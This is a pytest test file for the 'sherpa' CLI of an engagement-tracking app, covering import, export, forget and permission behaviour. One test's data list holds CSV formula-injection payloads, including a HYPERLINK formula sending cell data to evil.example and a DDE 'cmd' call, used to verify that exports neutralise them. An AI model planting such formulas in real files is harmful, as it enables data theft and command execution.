"""The `sherpa` command line, run in-process with a real environment and database."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, event, func, insert, select, text

from engagement import db
from engagement.clock import utcnow
from engagement.export import write_responses_csv
from engagement.models import Account, Answer, CheckIn, DueWork, Person, Risk, RiskState
from engagement.risks.rules import RiskInput
from engagement.risks.service import reassess
from sherpa.cli import main
from tests.engagement.test_forget import DANA, DANA_MAIL, build
from tests.factories import actor, add_checkin, app_sessions, load_portfolio

EXAMPLE = str(Path(__file__).resolve().parents[2] / "examples" / "portfolio.yaml")


@pytest.fixture
def env(monkeypatch: pytest.MonkeyPatch, database_url: str) -> str:
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("SLACK_BOT_TOKEN", "xoxb-test")
    monkeypatch.setenv("SLACK_API_URL", "http://127.0.0.1:9/api/")
    return database_url


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    status = main(list(argv))
    out, err = capsys.readouterr()
    return status, out, err


def accounts_in(url: str) -> int:
    with db.session_factory(db.make_engine(url))() as session:
        return int(session.scalar(select(func.count()).select_from(Account)) or 0)


def test_bad_setting_stops_with_one_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("PORT", "eighty")
    status, _, err = run(capsys, "tick")
    assert status == 2
    assert err.strip().splitlines() == [
        "sherpa: PORT: Input should be a valid integer, unable to parse string as an integer"
    ]


def test_out_of_date_schema_is_refused(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path}/new.sqlite3")
    status, _, err = run(capsys, "import", EXAMPLE)
    assert status == 2
    assert "run `sherpa db upgrade` first" in err and "Traceback" not in err
    assert run(capsys, "db", "upgrade")[0] == 0
    assert run(capsys, "import", EXAMPLE)[0] == 0
    assert accounts_in(f"sqlite:///{tmp_path}/new.sqlite3") == 12


def test_import_dry_run_then_real_then_again(env: str, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = run(capsys, "import", EXAMPLE, "--dry-run")
    assert status == 0 and "accounts: 12 added" in out and "dry run: nothing written" in out
    assert accounts_in(env) == 0
    assert run(capsys, "import", EXAMPLE)[0] == 0
    assert accounts_in(env) == 12
    status, out, _ = run(capsys, "import", EXAMPLE)
    assert "accounts: 12 unchanged; people added: 0" in out


def test_malformed_file_names_places_and_writes_nothing(
    env: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text(Path(EXAMPLE).read_text().replace("sponsors: [U0SPN0003]", "sponsors: [bob]"))
    status, _, err = run(capsys, "import", str(bad))
    assert status == 1
    assert "accounts[2].sponsors[0]: not a Slack user ID or e-mail address" in err
    assert "accounts[7].sponsors[0]: not a Slack user ID or e-mail address" in err
    assert accounts_in(env) == 0


def test_a_file_with_a_key_twice_or_a_local_time_zone_is_refused_and_writes_nothing(
    env: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A second `accounts:` would silently replace the whole list; `localtime` is whatever
    the server's zone happens to be. Both are refused, with their places."""
    bad = tmp_path / "bad.yaml"
    text = Path(EXAMPLE).read_text().replace("timezone: America/New_York", "timezone: localtime", 1)
    bad.write_text(text + "accounts: []\n")
    status, _, err = run(capsys, "import", str(bad))
    assert status == 1
    assert "accounts: given twice, on lines" in err
    assert "timezone: unknown time zone 'localtime'" in err
    assert accounts_in(env) == 0


def test_tick_at_an_instant_runs_the_hourly_plan_once(
    env: str, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, _ = run(capsys, "tick", "--at", "2026-11-23T09:00:00Z")
    assert status == 0 and out.startswith("done:")
    run(capsys, "tick", "--at", "2026-11-23T09:30:00Z")
    with db.session_factory(db.make_engine(env))() as session:
        keys = session.scalars(select(DueWork.key).where(DueWork.kind == "plan")).all()
    assert keys == ["plan:2026-11-23T09"]


def test_tick_rejects_a_bad_instant(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_:
        main(["tick", "--at", "next tuesday"])
    assert exit_.value.code == 2
    assert "'next tuesday' is not an ISO-8601 instant" in capsys.readouterr().err


def _answers(url: str, count: int) -> None:
    engine = db.make_engine(url)
    sessions = app_sessions(engine)
    with sessions() as session:
        load_portfolio(session)
        account = session.scalars(select(Account)).first()
        person = session.scalars(select(Person)).first()
        assert account and person
        at = datetime(2026, 1, 5, 14, tzinfo=UTC)
        checkins = [
            {"account_id": account.id, "person_id": person.id, "role": "sam",
             "period_start": date.fromordinal(date(2000, 1, 3).toordinal() + n), "due_at": at,
             "state": "answered", "deferred": False}
            for n in range(count)
        ]  # fmt: skip
        session.execute(insert(CheckIn), checkins)
        ids = session.scalars(select(CheckIn.id).order_by(CheckIn.id)).all()
        session.execute(insert(Answer), [
            {"checkin_id": checkin_id, "revision": 1, "stakeholder_engagement": 4,
             "strategic_alignment": 3, "internal_advocacy": 5, "regular_checkins": 2,
             "role_balance": 3, "alignment_meeting_held": True, "stakeholders_met": 2,
             "advocacy": "Opened doors, \"quoted\", and, commas", "note": "", "submitted_at": at,
             "submitted_by": person.id, "phase": "selection" if n == 0 else None,
             "phase_check": False if n == 0 else None}
            for n, checkin_id in enumerate(ids)
        ])  # fmt: skip
        session.commit()
    engine.dispose()


def test_export_responses_csv(env: str, capsys: pytest.CaptureFixture[str]) -> None:
    _answers(env, 3)
    status, out, _ = run(capsys, "export", "responses", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert status == 0 and len(rows) == 3
    assert rows[0]["account"] == "Acme Corp" and rows[0]["person"] == "U0SAM0001"
    assert rows[0]["iso_week"] == "2000-W01" and rows[0]["revision"] == "1"
    assert rows[0]["advocacy"] == 'Opened doors, "quoted", and, commas'
    assert (rows[0]["phase"], rows[0]["phase_check"]) == ("selection", "False")  # seed 002
    assert (rows[1]["phase"], rows[1]["phase_check"]) == ("", "")  # not asked


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_export_responses_keeps_spreadsheets_from_running_formulas(
    env: str, capsys: pytest.CaptureFixture[str]
) -> None:
    engine = db.make_engine(env)
    with db.session_factory(engine)() as session:
        load_portfolio(session)
        session.scalars(select(Account).where(Account.name == "Acme Corp")).one().name = "@Acme"
        for week, formula in enumerate(FORMULAS):
            checkin = add_checkin(
                session,
                account="@Acme",
                user="U0SAM0001",
                role="sam",
                period=date(2026, 11, 2) + timedelta(weeks=week),
                answers=[(4, 3, 5, 2, 1)],
            )
            answer = session.scalars(select(Answer).where(Answer.checkin_id == checkin)).one()
            answer.note, answer.advocacy = formula, "Met the CFO - twice = progress"
        session.commit()
    engine.dispose()

    status, out, _ = run(capsys, "export", "responses")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert status == 0
    assert [row["note"] for row in rows] == [f"'{formula}" for formula in FORMULAS]
    assert {row["account"] for row in rows} == {"'@Acme"}
    # text that only contains such a character, and numbers, are left as they are
    assert {row["advocacy"] for row in rows} == {"Met the CFO - twice = progress"}
    assert {row["person"] for row in rows} == {"U0SAM0001"}
    assert {(row["stakeholder_engagement"], row["role_balance"]) for row in rows} == {("4", "1")}


def test_export_of_100000_rows_runs_in_bounded_memory(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/big.sqlite3"
    db.upgrade(url)
    _answers(url, 100_000)
    engine = db.make_engine(url)
    sink = io.StringIO()
    with db.session_factory(engine)() as session:
        tracemalloc.start()
        rows = write_responses_csv(session, _Discard())
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    engine.dispose()
    assert rows == 100_000 and not sink.getvalue()
    assert peak < 32 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"


class _Discard(io.StringIO):
    def write(self, text: str) -> int:
        return len(text)


def test_export_all_and_import_data_round_trip(
    env: str,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    _answers(env, 5)
    dump = tmp_path / "all.jsonl"
    assert run(capsys, "export", "all", "--output", str(dump))[0] == 0
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path}/copy.sqlite3")
    assert run(capsys, "db", "upgrade")[0] == 0
    status, out, _ = run(capsys, "import-data", str(dump))
    assert status == 0 and out.startswith("imported ")
    again = tmp_path / "again.jsonl"
    run(capsys, "export", "all", "--output", str(again))
    assert again.read_text() == dump.read_text()
    status, _, err = run(capsys, "import-data", str(dump))
    assert status == 2 and "not empty" in err


def test_export_refuses_a_mismatched_format(env: str, capsys: pytest.CaptureFixture[str]) -> None:
    status, _, err = run(capsys, "export", "all", "--format", "csv")
    assert status == 2 and "`export all` writes jsonl, not csv" in err


def _sponsor_with_a_note(url: str) -> None:
    engine = db.make_engine(url)
    with db.session_factory(engine)() as session:
        load_portfolio(session)
        checkin = add_checkin(session, account="Acme Corp", user="U0SPN0001", role="sponsor",
                              period=date(2026, 11, 16), answers=[(4, 4, 4, 4, 4)])  # fmt: skip
        answer = session.scalars(select(Answer).where(Answer.checkin_id == checkin)).one()
        answer.note = "The CFO is leaving, keep it quiet"
        session.commit()
    engine.dispose()


def _person_ids(url: str) -> list[str | None]:
    engine = db.make_engine(url)
    with db.session_factory(engine)() as session:
        ids = list(session.scalars(select(Person.slack_user_id).order_by(Person.id)))
    engine.dispose()
    return ids


def test_forget_dry_run_then_real_then_again(env: str, capsys: pytest.CaptureFixture[str]) -> None:
    _sponsor_with_a_note(env)
    status, out, _ = run(capsys, "forget", "U0SPN0001", "--dry-run")
    assert status == 0 and "dry run: nothing written" in out
    assert "roles ended: sponsor of Acme Corp (no sponsor left)" in out
    assert "answer revisions: 1 kept with their ratings; free text removed from 1" in out
    assert "U0SPN0001" in _person_ids(env)

    status, out, err = run(capsys, "forget", "U0SPN0001")
    assert status == 0 and "dry run" not in out
    assert "to reassign in the portfolio file: Acme Corp (no sponsor)" in out
    assert "Also remove U0SPN0001 from the portfolio file" in out
    assert "U0SPN0001" not in _person_ids(env)
    logged = [line for line in err.splitlines() if "people.forgotten" in line]
    assert len(logged) == 1 and "U0SPN0001" not in err
    pseudonym = out.split("they are now ")[1].split(" (")[0]
    reference = out.split(f"{pseudonym} (")[1].split(")")[0]
    assert f'pseudonym="{pseudonym}" answers=1 answer_texts=1' in logged[0]

    status, _, err = run(capsys, "forget", "U0SPN0001")
    assert status == 2 and err.startswith("sherpa: No person named 'U0SPN0001'.")
    assert len(err.strip().splitlines()) == 1
    status, out, err = run(capsys, "forget", reference)
    assert status == 0 and out.splitlines() == [
        f"{pseudonym} ({reference}) was forgotten already: nothing changed."
    ]
    assert "people.forgotten" not in err


@pytest.mark.parametrize("user", ["U0NOBODY1", "nobody@example.com", "not-a-person"])
def test_forget_of_an_unknown_person_is_one_line_and_exit_2(
    env: str, capsys: pytest.CaptureFixture[str], user: str
) -> None:
    _sponsor_with_a_note(env)
    before = _person_ids(env)
    status, out, err = run(capsys, "forget", user)
    assert status == 2 and not out
    assert len(err.strip().splitlines()) == 1 and err.startswith("sherpa: ")
    assert _person_ids(env) == before


NOTE = "Dana: the account lead is leaving, in confidence"  # written by `build`
ADVOCACY = "Dana got their CTO onto the steering call"


def _on_disk(url: str) -> bytes:
    """The SQLite database file and its write-ahead log, as they are on disk."""
    path = Path(url.removeprefix("sqlite:///"))
    wal = Path(f"{path}-wal")
    return path.read_bytes() + (wal.read_bytes() if wal.exists() else b"")


def _vacuumed(engine: Engine) -> dict[str, bool]:
    """Per table: whether VACUUM ever ran on it."""
    with engine.connect() as connection:
        rows = connection.execute(
            text("SELECT relname, last_vacuum IS NOT NULL FROM pg_stat_user_tables")
        ).all()
    return {name: bool(ran) for name, ran in rows}


def test_forget_leaves_nothing_of_them_in_the_database_files(
    env: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Right after `sherpa forget`, with the server's connection still open."""
    make_engine = db.make_engine

    def as_most_builds(url: str, **options: object) -> Engine:
        """SQLite as built by default, which does not delete securely (Debian's build
        does): Sherpa's own settings must turn it on."""
        engine = make_engine(url, **options)
        if engine.dialect.name == "sqlite":
            event.listen(engine, "connect", _insecure_delete, insert=True)
        return engine

    monkeypatch.setattr(db, "make_engine", as_most_builds)
    server = db.make_engine(env)  # stays open, as a running Sherpa's would
    build(app_sessions(server))
    theirs = [DANA_MAIL, DANA, NOTE, ADVOCACY]
    sqlite = server.dialect.name == "sqlite"
    if sqlite:
        held = _on_disk(env)
        assert {item: held.count(item.encode()) > 0 for item in theirs} == dict.fromkeys(
            theirs, True
        )
    else:
        assert not any(_vacuumed(server).values())

    status, _, err = run(capsys, "forget", DANA_MAIL)
    assert status == 0, err
    if sqlite:
        left = _on_disk(env)
        assert {item: left.count(item.encode()) for item in theirs} == dict.fromkeys(theirs, 0)
        assert Path(f"{env.removeprefix('sqlite:///')}-wal").stat().st_size == 0
    else:
        touched = {"people", "checkins", "answers", "advocacy_actions", "escalations", "alerts"}
        vacuumed = _vacuumed(server)
        assert {name: vacuumed[name] for name in touched} == dict.fromkeys(touched, True)
    server.dispose()


def _insecure_delete(dbapi_connection: Any, _record: Any) -> None:
    dbapi_connection.execute("PRAGMA secure_delete=OFF")


@pytest.fixture
def usual_umask() -> Iterator[None]:
    """The umask most systems give a process (022): files are created readable by all."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def _mode(path: Path) -> str:
    return oct(stat.S_IMODE(path.stat().st_mode))


@pytest.mark.usefixtures("usual_umask")
def test_exports_are_readable_by_their_owner_only(
    env: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    _answers(env, 2)
    responses, everything = tmp_path / "responses.csv", tmp_path / "all.jsonl"
    assert run(capsys, "export", "responses", "--output", str(responses))[0] == 0
    assert run(capsys, "export", "all", "--output", str(everything))[0] == 0
    assert (_mode(responses), _mode(everything)) == ("0o600", "0o600")
    assert len(responses.read_text().splitlines()) == 3

    shared = tmp_path / "shared.csv"  # one already there, readable by all, and longer
    shared.write_text("x" * 100_000)
    shared.chmod(0o644)
    assert run(capsys, "export", "responses", "--output", str(shared))[0] == 0
    assert _mode(shared) == "0o600"
    assert shared.read_text() == responses.read_text()


def test_tick_exits_1_and_says_what_when_a_call_to_slack_fails(
    env: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Slack cannot be reached (SLACK_API_URL points at a closed port): the check-ins due
    at 09:00 and the people's profile look-ups are left for a retry, and cron hears of it."""
    engine = db.make_engine(env)
    with app_sessions(engine)() as session:
        load_portfolio(session)
    engine.dispose()
    status, out, err = run(capsys, "tick", "--at", "2026-11-23T09:00:00Z")
    assert status == 1
    assert "retried: 3; failed: 0" in out
    assert err.strip().splitlines()[-1] == (
        "sherpa: 0 failed and 3 left for a retry (checkin.send=2, people.refresh=1): "
        "the log says why; "
        "the clock retries those left"
    )


def _slack_reassesses_globex_sr02(url: str) -> None:
    """Globex's sponsor re-assesses SR-02 from Slack: 4 × 5, mitigating."""
    engine = db.make_engine(url)
    with app_sessions(engine)() as session:
        sr02 = session.scalar(select(Risk.id).where(Risk.description.startswith("Disruptive")))
        assert sr02 is not None
        fields = RiskInput(probability=4, impact=5, description="Disruptive technology.")
        sponsor = actor(session, "U0SPN0002")
        state = RiskState.MITIGATING
        reassess(session, actor=sponsor, risk_id=sr02, fields=fields, state=state, now=utcnow())
        session.commit()
    engine.dispose()


def _sr02(url: str) -> tuple[int, str]:
    engine = db.make_engine(url)
    with db.session_factory(engine)() as session:
        risk = session.scalars(select(Risk).where(Risk.description.startswith("Disruptive"))).one()
        result = (risk.probability, risk.state)
    engine.dispose()
    return result


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_an_import_over_changes_made_in_slack_needs_the_operators_go_ahead(
    env: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert run(capsys, "import", EXAMPLE)[0] == 0
    _slack_reassesses_globex_sr02(env)
    status, out, _ = run(capsys, "import", EXAMPLE, "--dry-run")
    assert status == 0
    assert "overwrites  risk:Globex SR-02: risk.changed (probability 4 -> 3; impact 5 -> 4; " in out
    assert "over risk.reassessed by U0SPN0002 on " in out
    assert (
        "this import would overwrite 1 change made in Slack: an import applies them only with "
        "--force\ndry run: nothing written" in out
    )

    status, out, err = run(capsys, "import", EXAMPLE)  # no terminal to ask at
    assert (status, out) == (1, "")
    assert err.splitlines() == [
        "sherpa: this import would overwrite 1 change made in Slack (`--dry-run` lists them): "
        "nothing imported; run it again with --force to apply them"
    ]
    assert _sr02(env) == (4, "mitigating")

    monkeypatch.setattr("sys.stdin", _Terminal())
    prompts: list[str] = []
    monkeypatch.setattr("builtins.input", lambda prompt: prompts.append(prompt) or "n")
    status, out, err = run(capsys, "import", EXAMPLE)
    assert status == 1 and err == "sherpa: nothing imported\n"
    assert "overwrites  risk:Globex SR-02" in out
    assert prompts == ["this import would overwrite 1 change made in Slack. Apply them? [y/N] "]
    assert _sr02(env) == (4, "mitigating")

    def closed(prompt: str) -> str:
        raise EOFError

    monkeypatch.setattr("builtins.input", closed)
    assert run(capsys, "import", EXAMPLE)[:3:2] == (1, "sherpa: nothing imported\n")
    assert _sr02(env) == (4, "mitigating")

    monkeypatch.setattr("builtins.input", lambda prompt: "y")
    status, out, _ = run(capsys, "import", EXAMPLE)
    assert status == 0 and "changed  Globex (risk SR-02: probability 4 -> 3" in out
    assert _sr02(env) == (3, "open")

    _slack_reassesses_globex_sr02(env)
    monkeypatch.setattr("sys.stdin", io.StringIO())
    status, out, _ = run(capsys, "import", EXAMPLE, "--force")
    assert status == 0 and "overwrites  risk:Globex SR-02" in out
    assert _sr02(env) == (3, "open")
    assert run(capsys, "import", EXAMPLE)[0] == 0  # the file is the latest word again


def test_export_portfolio_round_trips_through_a_new_database(
    env: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    assert run(capsys, "import", EXAMPLE)[0] == 0
    _slack_reassesses_globex_sr02(env)
    exported = tmp_path / "portfolio.yaml"
    assert run(capsys, "export", "portfolio", "--output", str(exported))[0] == 0
    assert _mode(exported) == "0o600"
    status, out, _ = run(capsys, "import", str(exported))
    assert status == 0 and "accounts: 12 unchanged; people added: 0" in out

    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path}/copy.sqlite3")
    assert run(capsys, "db", "upgrade")[0] == 0
    assert run(capsys, "import", str(exported))[0] == 0
    status, again, _ = run(capsys, "export", "portfolio")
    assert status == 0 and again == exported.read_text()
    assert _sr02(f"sqlite:///{tmp_path}/copy.sqlite3") == (4, "mitigating")


def test_export_all_holds_the_audit_log(
    env: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    assert run(capsys, "import", EXAMPLE)[0] == 0
    _slack_reassesses_globex_sr02(env)
    status, out, _ = run(capsys, "export", "all")
    rows = [json.loads(line) for line in out.splitlines()[1:]]
    audit = [row["row"] for row in rows if row["table"] == "audit_entries"]
    assert status == 0 and len(audit) == 63  # the example's 62 changes, and Slack's one
    assert {row["actor"] for row in audit[:-1]} == {"import"}
    last = audit[-1]
    assert (last["actor"], last["action"], last["subject"]) == (
        "U0SPN0002",
        "risk.reassessed",
        "risk:Globex SR-02",
    )
    assert (last["before"]["probability"], last["before"]["state"]) == (3, "open")
    assert (last["after"]["probability"], last["after"]["state"]) == (4, "mitigating")
